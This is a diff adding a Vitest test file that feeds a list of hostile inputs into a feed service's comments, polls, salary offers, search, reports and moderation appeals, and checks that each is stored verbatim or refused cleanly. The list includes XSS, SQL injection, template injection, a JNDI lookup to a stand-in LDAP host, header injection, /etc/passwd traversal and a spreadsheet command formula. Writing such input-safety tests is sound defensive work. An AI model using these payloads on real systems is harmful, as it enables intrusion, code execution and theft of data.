@@ -1,0 +1,163 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { cleanText } from '../../src/core/composer/writing-rules';
+import { type Person, startTestWorld, type TestWorld } from '../../src/server/services/feed/testing';
+
+/** Every place where somebody's words come in, and words nobody of ours would write. */
+
+let clock = Date.parse('2026-11-20T12:00:00Z');
+let world: TestWorld;
+let author: Person;
+let other: Person;
+let judge: Person;
+let post: string;
+beforeAll(async () => {
+  world = await startTestWorld({ now: () => new Date(clock++) });
+  [author, other, judge] = [
+    await world.person('Author'),
+    await world.person('Other'),
+    await world.person('Judge'),
+  ];
+  post = await world.post(author.faces.ANONYMOUS);
+  const { db } = world.services;
+  await db.updateTable('members').set({ office: 'moderator' }).where('id', '=', judge.memberId).execute();
+});
+afterAll(() => world.close());
+
+const HOSTILE: readonly string[] = [
+  '<script>alert(1)</script>',
+  '"><img src=x onerror=alert(1)>',
+  "'; drop table comments; --",
+  '{{constructor.constructor("alert(1)")()}}',
+  '[click](javascript:alert(1))',
+  '[@Zentrix](//evil.example)',
+  '\u202Egnp.exe\u202C',
+  'a\u0301'.repeat(60),
+  `Z${'\u0335'.repeat(5000)}`,
+  '\u2066\u2067\u2068hidden\u2069',
+  '👩‍👩‍👧‍👦'.repeat(10),
+  '\uFDFA'.repeat(40),
+  'क्षत्रिय '.repeat(9),
+  '%00%0d%0aSet-Cookie: a=b',
+  '\x24{jndi:ldap://x.example/a}',
+  'a\0b',
+  'half \ud83d',
+  '../../../../etc/passwd',
+  '\u200bx\u200b',
+  '=cmd|"/c calc"!A1',
+];
+/** All of them where somebody measures: HOSTILE_TEXTS=300. */
+const TEXTS = Number(process.env.HOSTILE_TEXTS ?? 60);
+const hostile = Array.from({ length: TEXTS }, (_, at) => {
+  const base = HOSTILE[at % HOSTILE.length] ?? '';
+  return at < HOSTILE.length ? base : `${base.slice(0, 60)} ${String.fromCodePoint(0x100 + at * 37)}`;
+});
+
+type Told = { readonly status: number; readonly body: unknown };
+
+interface Sink {
+  readonly write: (text: string) => Promise<Told>;
+  /** What is read where it was written; left out where nobody but moderators reads it, or nothing is kept. */
+  readonly read?: (written: Told, text: string) => Promise<string | undefined> | string | undefined;
+  readonly field: string;
+}
+
+let titles = 0;
+const newPost = (change: object) => ({
+  title: `Title ${++titles}`,
+  content: 'A text.',
+  community: { type: 'TOPIC', entityId: 42 },
+  profileType: 'ANONYMOUS',
+  media: [],
+  poll: null,
+  salaryIds: [],
+  ...change,
+});
+const send = (method: 'POST' | 'PUT', path: string, body: object, who = other): Promise<Told> =>
+  world.write(method, path, body, who.cookie);
+const idOf = ({ body }: Told) => (body as { readonly postId: string }).postId;
+const offer = (change: object) => ({
+  companyName: 'Zentrix',
+  jobProfile: 'Engineer',
+  place: 'Pune',
+  fixed: 100,
+  variable: 0,
+  stock: 0,
+  currentSalary: false,
+  ...change,
+});
+const outside = async (method: 'GET' | 'POST', url: string, who: Person, payload?: object): Promise<Told> => {
+  const headers = { cookie: who.cookie, 'idempotency-key': world.services.newId() };
+  const reply = await world.send({ method, url, headers, ...(payload && { payload }) });
+  return { status: reply.statusCode, body: reply.body === '' ? undefined : reply.json() };
+};
+const SINKS: Readonly<Record<string, Sink>> = {
+  'a comment': {
+    write: (text) => send('POST', `/v1/post/${post}/comment`, { text, profileType: 'ANONYMOUS' }),
+    read: ({ body }) => (body as { readonly text: string }).text,
+    field: '/body/text',
+  },
+  'an option of a poll': {
+    write: (text) => send('POST', '/v2/post', newPost({ poll: { options: [text, 'No way'], days: 1 } })),
+    read: async (told) => {
+      const { body } = await world.get(`/v1/feed/${idOf(told)}`, other.cookie);
+      return body.poll?.options[0].text ?? JSON.stringify([told, body]);
+    },
+    field: '/body/poll/options/0',
+  },
+  'every field of an offer': {
+    write: (text) => send('POST', '/v1/salary', offer({ companyName: text, jobProfile: text, place: text })),
+    read: ({ body }) => {
+      const { companyName, jobProfile, place } = body as Readonly<Record<string, string>>;
+      return new Set([companyName, jobProfile, place]).size === 1 ? place : 'three different texts';
+    },
+    field: '/body/',
+  },
+  'a search for communities': {
+    write: (text) => outside('GET', `/feed-services/v1/community/search?q=${safeUri(text)}`, other),
+    field: '/query/q',
+  },
+  'the note of a report': {
+    write: (text) =>
+      send('POST', '/v1/report', { resourceId: post, resourceType: 'POST', reason: 'OTHER', note: text }),
+    read: async () => {
+      const { body } = await outside('GET', '/moderation-services/v1/queue', judge);
+      const queue = body as readonly { resourceId: string; reports: readonly { note: string }[] }[];
+      return queue.find(({ resourceId }) => resourceId === post)?.reports[0]?.note;
+    },
+    field: '/body/note',
+  },
+};
+
+/** A half sign has no address at all. */
+const safeUri = (text: string): string => encodeURIComponent(text.replace(/\p{Surrogate}/gu, 'half'));
+
+describe('[R-529] hostile texts are kept as they were written or refused with their field, as', () => {
+  it.each(Object.entries(SINKS))('%s', async (_, { write, read, field }) => {
+    let kept = 0;
+    for (const text of hostile) {
+      const told = await write(text);
+      if (told.status < 300) {
+        kept += 1;
+        if (read) expect([text, cleanText(text)]).toContain(await read(told, text));
+        continue;
+      }
+      expect([400, 422], `${told.status} ${text.slice(0, 40)}`).toContain(told.status);
+      const { errors, code } = told.body as { errors?: { field: string }[]; code: string };
+      if (code !== 'MALFORMED_REQUEST' && errors) expect(errors[0]?.field.startsWith(field)).toBe(true);
+    }
+    expect(kept).toBeGreaterThan(TEXTS / 2);
+  });
+});
+
+it('[R-529] a hostile appeal is read by moderators as it was written', async () => {
+  const text = hostile[1] ?? '';
+  const own = await world.comment(other.faces.ANONYMOUS, post);
+  const thing = { resourceId: own, resourceType: 'COMMENT' };
+  const hide = { ...thing, decision: 'HIDE', rule: 'A1', text: hostile[0] };
+  expect((await outside('POST', '/moderation-services/v1/decision', judge, hide)).status).toBe(204);
+  const told = await outside('POST', '/moderation-services/v1/appeal', other, { ...thing, text });
+  expect([told.status, (told.body as { text: string }).text]).toEqual([201, hostile[0]]);
+  const { body } = await outside('GET', '/moderation-services/v1/queue', judge);
+  const queue = body as readonly { resourceId: string; appeal: string | null }[];
+  expect(queue.find(({ resourceId }) => resourceId === own)?.appeal).toBe(text);
+});
